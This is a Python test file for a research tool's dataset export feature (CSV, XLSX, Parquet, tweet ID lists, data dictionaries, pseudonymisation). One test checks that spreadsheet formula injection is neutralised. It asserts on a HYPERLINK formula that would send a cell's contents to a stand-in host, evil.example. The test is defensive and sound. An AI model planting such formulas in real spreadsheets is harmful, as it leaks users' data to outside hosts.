"""Tabular dataset exports: one row per post, codes as columns, a data dictionary, safe cells.

The ``study`` fixture (also used by the REFI-QDA and withdrawal tests) is the 600-tweet sample
study, ingested, machine-coded with chretien2015 (fake embedder), with roles, the network,
chats and a topic run (k-means stand-in): every table an export or a withdrawal touches.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path

import pytest
from conftest import FIXTURES

from flows.export.dataset import export_dataset
from flows.export.paths import ExportError
from flows.export.selection import ExportOptions
from flows.privacy.spreadsheet import FORMULA_STARTS, neutralise, restore
from flows.store.db import connect

SECRET = b"export-test-secret"
CODES = ["information", "collaboration", "perspectives", "community", "advocacy", "digital_footprint",
         "equalization"]
FORMULAS = FIXTURES / "export" / "formulas.jsonl"
LONG = FIXTURES / "export" / "over_excel_cell.jsonl"  # a 24,000-character note tweet: 35,160 UTF-16 units


def build_study(folder: Path) -> Path:
    """The sample study with codes, roles, network, chats and topics, in ``folder/study.duckdb``."""
    from flows.coding.codebook import resolve_codebook
    from flows.coding.machine import code_corpus
    from flows.embed.models import FakeEmbedder
    from flows.ingest.files import ingest
    from flows.people.chats import detect_chats
    from flows.people.network import build_network
    from flows.people.roles import assign_roles
    from flows.sample.generate import generate
    from flows.topics.pipeline import run_topics
    from flows.topics.settings import TopicSettings

    manifest = generate(folder, tweets=600)
    path = folder / "study.duckdb"
    con = connect(path)
    ingest(con, [manifest["corpus"]])
    code_corpus(con, resolve_codebook("chretien2015"), embedder=FakeEmbedder())
    assign_roles(con, FakeEmbedder())
    build_network(con)
    detect_chats(con)
    run_topics(con, TopicSettings(), embedder=FakeEmbedder(), backend="kmeans", models_dir=folder / "models")
    con.close()
    return path


@pytest.fixture(scope="session")
def study(tmp_path_factory) -> Path:
    """The built sample study's database file: copy it before changing it."""
    return build_study(tmp_path_factory.mktemp("study"))


@pytest.fixture
def study_con(study):
    con = connect(study, read_only=True)
    yield con
    con.close()


def export(con, out, **kw):
    return export_dataset(con, out, ExportOptions(**kw), secret=SECRET)


def read_csv(path: Path) -> tuple[list[str], list[dict]]:
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    return list(rows[0]), rows


def test_one_row_per_post_with_codes_roles_topics_and_coder(study_con, tmp_path):
    result = export(study_con, tmp_path / "coded.csv", fmt="csv")
    header, rows = read_csv(tmp_path / "coded.csv")
    assert result["rows"] == len(rows) == 600
    assert header[:7] == ["post_id", "platform", "created_at", "author_id", "author_handle", "author_role", "kind"]
    assert header[-8:] == [f"chretien2015.{c}" for c in CODES] + ["coder"]
    assert {"text", "topic", "topic_label", "in_reply_to_post_id", "in_reply_to_author_id"} <= set(header)
    stored = dict(study_con.execute("SELECT post_id, value FROM code_values WHERE coder = 'auto' "
                                    "AND code = 'community'").fetchall())
    by_id = {r["post_id"]: r for r in rows}
    assert all(by_id[p]["chretien2015.community"] == str(v) for p, v in stored.items())
    reposts = [r for r in rows if r["kind"] == "repost"]
    assert reposts and all(r["chretien2015.community"] == "" and r["coder"] == "" for r in reposts)
    assert {r["coder"] for r in rows if r["kind"] != "repost"} == {"auto"}
    assert {r["author_role"] for r in rows} <= {"student", "resident", "faculty", "health_professional",
                                                "organization", "other"}
    assert all(r["created_at"].endswith("Z") for r in rows) and any(r["topic_label"] for r in rows)


def test_data_dictionary_describes_every_column_and_code(study_con, tmp_path):
    export(study_con, tmp_path / "coded.csv", fmt="csv", study_hash="abc123")
    doc = json.loads((tmp_path / "coded.dictionary.json").read_text(encoding="utf-8"))
    header, _ = read_csv(tmp_path / "coded.csv")
    assert [c["name"] for c in doc["columns"]] == header and all(c["description"] for c in doc["columns"])
    assert [c["code"] for c in doc["codes"]] == CODES and all(c["definition"] for c in doc["codes"])
    stored = study_con.execute("SELECT content_hash FROM codebook_current "
                               "WHERE codebook_id = 'chretien2015'").fetchone()[0]
    assert doc["codebook"]["content_hash"] == stored and doc["study_hash"] == "abc123"
    assert doc["coder"] == "auto" and doc["topic_run"] and doc["provenance"]["sources"] == 1
    md = (tmp_path / "coded.dictionary.md").read_text(encoding="utf-8")
    assert all(f"`{name}`" in md for name in header) and stored in md
    export(study_con, tmp_path / "again.csv", fmt="csv")
    assert json.loads((tmp_path / "again.dictionary.json").read_text())["study_hash"] is None


def test_parquet_keeps_types_and_the_same_rows(study_con, tmp_path):
    import pyarrow.parquet as pq

    export(study_con, tmp_path / "coded.parquet", fmt="parquet")
    export(study_con, tmp_path / "coded_csv.csv", fmt="csv")
    table = pq.read_table(tmp_path / "coded.parquet")
    assert table.num_rows == 600 and str(table.schema.field("created_at").type).startswith("timestamp")
    assert str(table.schema.field("chretien2015.community").type) == "int8"
    _, rows = read_csv(tmp_path / "coded_csv.csv")
    assert table.column("post_id").to_pylist() == [r["post_id"] for r in rows]


def test_xlsx_has_the_rows_and_refuses_more_than_excel_holds(study_con, tmp_path, monkeypatch):
    from openpyxl import load_workbook

    export(study_con, tmp_path / "coded.xlsx", fmt="xlsx", no_text=True)
    sheet = load_workbook(tmp_path / "coded.xlsx", read_only=True).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 601 and "text" not in rows[0] and rows[0][0] == "post_id"
    monkeypatch.setattr("flows.export.tabular.XLSX_MAX_ROWS", 100)
    with pytest.raises(ExportError, match="do not fit in one Excel sheet"):
        export(study_con, tmp_path / "big.xlsx", fmt="xlsx")
    assert not (tmp_path / "big.xlsx").exists()


def test_formulas_are_neutralised_in_csv_and_xlsx_but_kept_in_parquet(con, ingest_files, tmp_path):
    from openpyxl import load_workbook

    ingest_files(FORMULAS)
    originals = dict(con.execute("SELECT post_id, text FROM posts").fetchall())
    dangerous = [t for t in originals.values() if t.startswith(FORMULA_STARTS)]
    assert len(dangerous) >= 7
    export(con, tmp_path / "f.csv", fmt="csv")
    export(con, tmp_path / "f.xlsx", fmt="xlsx", force=True)  # the dictionary beside it is shared
    export(con, tmp_path / "f.parquet", fmt="parquet", force=True)
    _, rows = read_csv(tmp_path / "f.csv")
    for row in rows:
        original = originals[row["post_id"]]
        assert row["text"] == neutralise(original) and restore(row["text"]) == original
        assert not row["text"].startswith(FORMULA_STARTS)
    book = load_workbook(tmp_path / "f.xlsx")  # not read-only: cell types are known
    cells = [c for row in book.worksheets[0].iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert all(not t.startswith(FORMULA_STARTS) for t in texts)
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")" in texts
    import pyarrow.parquet as pq

    assert sorted(pq.read_table(tmp_path / "f.parquet").column("text").to_pylist()) == sorted(originals.values())


def test_a_text_over_excel_cell_limit_is_split_in_xlsx_and_counted_in_csv(con, ingest_files, tmp_path):
    from openpyxl import load_workbook

    from flows.privacy.spreadsheet import EXCEL_CELL_LIMIT, excel_units

    ingest_files(LONG)
    original = con.execute("SELECT text FROM posts WHERE length(text) > 1000").fetchone()[0]
    assert excel_units(original) > EXCEL_CELL_LIMIT and original.startswith("=")
    result = export(con, tmp_path / "long.xlsx", fmt="xlsx")
    assert result["texts_over_excel_limit"] == 1
    header, *rows = load_workbook(tmp_path / "long.xlsx", read_only=True).worksheets[0].iter_rows(values_only=True)
    assert header[header.index("text") + 1] == "text_part2" and "text_part3" not in header
    i = header.index("text")
    long, short = sorted(rows, key=lambda r: -len(r[i]))
    assert all(excel_units(cell) <= EXCEL_CELL_LIMIT for cell in long[i:i + 2])
    assert "".join(restore(cell) for cell in long[i:i + 2]) == original and long[i].startswith("'=")
    assert (short[i + 1:i + 2] or (None,))[0] is None  # (read-only rows drop trailing empty cells)
    doc = json.loads((tmp_path / "long.dictionary.json").read_text(encoding="utf-8"))
    assert doc["excel_cell_limit"]["posts_over"] == 1 and doc["excel_cell_limit"]["split_into"] == {"text": 2}
    assert "text_part2" in [c["name"] for c in doc["columns"]] and "1 posts have a text longer" in (
        tmp_path / "long.dictionary.md").read_text(encoding="utf-8")
    result = export(con, tmp_path / "long.csv", fmt="csv", force=True)  # (the dictionary beside it is shared)
    assert result["texts_over_excel_limit"] == 1 and "text_part2" not in result["columns"]
    _, csv_rows = read_csv(tmp_path / "long.csv")
    assert restore(max((r["text"] for r in csv_rows), key=len)) == original  # whole in CSV
    note = json.loads((tmp_path / "long.dictionary.json").read_text(encoding="utf-8"))["excel_cell_limit"]["note"]
    assert "Excel cuts them" in note
    assert export(con, tmp_path / "p.xlsx", fmt="xlsx", pseudonymize=True)["texts_over_excel_limit"] == 1
    assert export(con, tmp_path / "short.csv", fmt="csv", no_text=True)["texts_over_excel_limit"] == 0


def test_pseudonymised_export_names_nobody_and_is_stable(study_con, tmp_path):
    export(study_con, tmp_path / "p1.csv", fmt="csv", pseudonymize=True)
    export(study_con, tmp_path / "p2.csv", fmt="csv", pseudonymize=True)
    assert (tmp_path / "p1.csv").read_bytes() == (tmp_path / "p2.csv").read_bytes()
    header, rows = read_csv(tmp_path / "p1.csv")
    assert "author" in header and "author_id" not in header and "author_handle" not in header
    body = (tmp_path / "p1.csv").read_text(encoding="utf-8").lower()
    for author_id, handle in study_con.execute("SELECT author_id, handle FROM authors").fetchall():
        assert handle.lower() not in body and f",{author_id}," not in body
    # one person, one pseudonym: as author, as the account replied to and as an @mention in a text
    authors = {r["author"] for r in rows}
    replied = {r["in_reply_to_author"] for r in rows if r["in_reply_to_author"]}
    mentioned = {m for r in rows for m in re.findall(r"@(user_[0-9a-f]{16})", restore(r["text"]))}
    assert replied and replied <= authors and mentioned and mentioned <= authors
    assert not re.search(r"@(?!user_[0-9a-f]{16})\w", " ".join(restore(r["text"]) for r in rows))


def test_no_text_leaves_texts_out(study_con, tmp_path):
    export(study_con, tmp_path / "n.csv", fmt="csv", no_text=True)
    header, _ = read_csv(tmp_path / "n.csv")
    assert "text" not in header and "in_reply_to_author_id" in header


def test_coder_choice_and_unknown_coder(study_con, tmp_path):
    export(study_con, tmp_path / "r.csv", fmt="csv", coders=("auto:rules",))
    _, rows = read_csv(tmp_path / "r.csv")
    assert {r["coder"] for r in rows} == {"auto:rules", ""}
    with pytest.raises(ExportError, match="no codes by ana under codebook chretien2015; coders with codes: auto"):
        export(study_con, tmp_path / "x.csv", fmt="csv", coders=("ana",))
    with pytest.raises(ExportError, match="pass one --coder"):
        export(study_con, tmp_path / "x.csv", fmt="csv", coders=("auto", "auto:rules"))


def test_refuses_to_overwrite_without_force(study_con, tmp_path):
    out = tmp_path / "coded.csv"
    out.write_text("precious", encoding="utf-8")
    with pytest.raises(ExportError, match="already exist.*--force"):
        export(study_con, out, fmt="csv")
    assert out.read_text(encoding="utf-8") == "precious"
    assert not (tmp_path / "coded.dictionary.md").exists()
    export(study_con, out, fmt="csv", force=True)
    assert out.read_text(encoding="utf-8").startswith("post_id,")


def test_an_interrupted_export_leaves_no_file(study_con, tmp_path, monkeypatch):
    import flows.export.tabular as tabular

    real = tabular._copy

    def dies_halfway(con, query, path, fmt):
        real(con, query, path, fmt)
        raise KeyboardInterrupt  # Ctrl-C after the data, before the dictionary and the rename

    monkeypatch.setattr(tabular, "_copy", dies_halfway)
    with pytest.raises(KeyboardInterrupt):
        export(study_con, tmp_path / "coded.csv", fmt="csv")
    assert list(tmp_path.iterdir()) == []


def test_dehydrated_ids_per_platform_with_a_manifest(study_con, tmp_path):
    result = export(study_con, tmp_path / "share" / "ids.txt", fmt="ids")
    lines = (tmp_path / "share" / "ids.twitter.txt").read_text(encoding="ascii").splitlines()
    assert result["posts"] == {"twitter": 600} and len(lines) == len(set(lines)) == 600
    assert all(line.isdigit() for line in lines) and lines == sorted(lines, key=lambda x: (len(x), x))
    doc = json.loads((tmp_path / "share" / "ids.manifest.json").read_text(encoding="utf-8"))
    assert doc["files"]["twitter"] == {"file": "ids.twitter.txt", "posts": 600}
    assert doc["window"]["first"].startswith("2014-09") and sum(doc["counts"]["twitter"].values()) == 600
    assert doc["queries"] and "from:DrMaybeMaya" in doc["queries"][0]["query"]
    export(study_con, tmp_path / "anon" / "ids.txt", fmt="ids", pseudonymize=True)
    anon = (tmp_path / "anon" / "ids.manifest.json").read_text(encoding="utf-8")
    assert "DrMaybeMaya" not in anon and "from:user_" in anon and '"name"' not in anon


def test_exports_are_byte_identical_when_repeated(study_con, tmp_path):
    for name in ("a", "b"):
        export(study_con, tmp_path / name / "d.csv", fmt="csv")
        export(study_con, tmp_path / name / "e.parquet", fmt="parquet")
    for file in ("d.csv", "d.dictionary.json", "d.dictionary.md", "e.parquet", "e.dictionary.json"):
        assert (tmp_path / "a" / file).read_bytes() == (tmp_path / "b" / file).read_bytes(), file


def test_the_secret_is_in_no_export_and_no_output(study, tmp_path, monkeypatch, caplog, capsys):
    from flows.privacy.pseudonym import SECRET_FILE

    db = tmp_path / "store" / "study.duckdb"
    db.parent.mkdir()
    shutil.copy(study, db)
    monkeypatch.delenv("ETHNOFLOW_SECRET", raising=False)
    from typer.testing import CliRunner

    from flows.cli.app import app

    runner, outputs = CliRunner(), []
    for fmt, name in (("csv", "c.csv"), ("xlsx", "x.xlsx"), ("parquet", "p.parquet"), ("qdpx", "q.qdpx"),
                      ("qdc", "q.qdc"), ("ids", "ids.txt")):
        result = runner.invoke(app, ["export", "dataset", "--db", str(db), "--format", fmt, "--pseudonymize",
                                     "--out", str(tmp_path / "out" / name), "--json"])
        assert result.exit_code == 0, result.output
        outputs.append(result.output)
    result = runner.invoke(app, ["forget", "--db", str(db), "@DrMaybeMaya", "--reason", "withdrew", "--json"])
    outputs.append(result.output)
    secret = (db.parent / SECRET_FILE).read_text(encoding="ascii").strip()
    blobs = [p.read_bytes() for p in (tmp_path / "out").iterdir()] + [o.encode() for o in outputs]
    blobs += [caplog.text.encode(), capsys.readouterr().out.encode()]
    con = connect(db, read_only=True)
    blobs += [repr(con.execute(f'SELECT * FROM "{t}"').fetchall()).encode() for (t,) in con.execute(
        "SELECT table_name FROM duckdb_tables() WHERE database_name = current_database()").fetchall()]
    con.close()
    for blob in blobs:
        for form in (secret, secret.encode().hex(), bytes.fromhex(secret).hex()):
            assert form.encode() not in blob


def test_cli_export_dataset_json_and_clean_errors(cli, tmp_path):
    cli("ingest", FORMULAS)
    result = cli("export", "dataset", "--format", "csv", "--out", tmp_path / "f.csv", "--json")
    assert json.loads(result.output)["rows"] == 9
    again = cli("export", "dataset", "--format", "csv", "--out", tmp_path / "f.csv", ok=False)
    assert again.exit_code == 2 and "already exist" in again.output and "Traceback" not in again.output
    bad = cli("export", "dataset", "--format", "sav", "--out", tmp_path / "f.sav", ok=False)
    assert bad.exit_code == 2 and "unknown --format 'sav'" in bad.output


def test_a_codebook_with_more_codes_than_one_bit_mask_holds(con, ingest_files, tmp_path):
    import yaml

    from flows.coding.codebook import load_codebook
    from flows.coding.store import register_codebook

    ingest_files(FORMULAS)
    leaf = {"inclusion": ["x"], "exclusion": ["y"], "examples": {"positive": ["p"], "negative": ["n"]},
            "rule_coverage": "semantic"}
    doc = {"id": "wide", "title": "Wide", "version": "1", "description": "Seventy codes.",
           "citation": [{"reference": "Test", "url": "https://example.org", "note": "test"}],
           "codes": [{"id": f"c{i:02d}", "label": f"C{i}", "definition": "d", **leaf} for i in range(70)]}
    (tmp_path / "wide.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")
    codebook = load_codebook(tmp_path / "wide.yaml")
    register_codebook(con, codebook)
    posts = [r[0] for r in con.execute("SELECT post_id FROM posts ORDER BY post_id").fetchall()]
    con.executemany("INSERT INTO code_assignments VALUES ('twitter', ?, 'wide', ?, ?, 'ana', ?, NULL, 'x', 'b')",
                    [[p, codebook.content_hash, f"c{i:02d}", (i + n) % 3 == 0] for n, p in enumerate(posts[:-1])
                     for i in range(70)])
    export(con, tmp_path / "w.csv", fmt="csv", coders=("ana",))
    _, rows = read_csv(tmp_path / "w.csv")
    for n, post in enumerate(posts):
        row = next(r for r in rows if r["post_id"] == post)
        expected = [str(int((i + n) % 3 == 0)) if n < len(posts) - 1 else "" for i in range(70)]
        assert [row[f"wide.c{i:02d}"] for i in range(70)] == expected


def test_inside_a_study_exports_follow_its_pseudonymising_and_record_its_hash(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from flows.cli.app import app
    from flows.privacy.pseudonym import SECRET_FILE
    from flows.study.model import load_study

    (tmp_path / "study.yaml").write_text("title: A test study\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    for name in ("ETHNOFLOW_SECRET", "ETHNOFLOW_DB", "ETHNOFLOW_STUDY"):
        monkeypatch.delenv(name, raising=False)
    runner = CliRunner()
    assert runner.invoke(app, ["ingest", str(FORMULAS)]).exit_code == 0
    result = runner.invoke(app, ["export", "dataset", "--format", "csv", "--out", "out/d.csv"])
    assert result.exit_code == 0 and "pseudonymised" in result.output, result.output
    header, _ = read_csv(tmp_path / "out" / "d.csv")
    doc = json.loads((tmp_path / "out" / "d.dictionary.json").read_text(encoding="utf-8"))
    assert "author" in header and doc["study_hash"] == load_study(tmp_path / "study.yaml").sha256
    assert (tmp_path / "data" / SECRET_FILE).is_file()  # where the study's reports look for it
    result = runner.invoke(app, ["export", "dataset", "--format", "csv", "--out", "out/r.csv", "--show-handles"])
    assert result.exit_code == 0 and "author_handle" in read_csv(tmp_path / "out" / "r.csv")[0]
